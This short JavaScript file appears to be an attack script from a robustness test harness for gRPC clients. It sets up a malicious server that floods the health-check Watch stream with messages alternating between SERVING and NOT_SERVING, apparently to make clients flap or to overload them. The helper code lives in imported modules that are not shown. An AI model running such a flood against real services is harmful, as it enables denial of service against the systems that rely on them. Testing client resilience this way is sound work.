import { attackHost, serving } from './lib/attack.js';
import { healthCheckResponse } from './lib/messages.js';
import { rawMessage } from './lib/raw-http2.js';

const notServing = healthCheckResponse.encode('NOT_SERVING');

attackHost({
  answer(stream) {
    if (stream.path !== '/grpc.health.v1.Health/Watch') return false;
    stream.begin();
    stream.flood((count) => rawMessage(count % 2 === 0 ? notServing : serving));
    return true;
  },
});
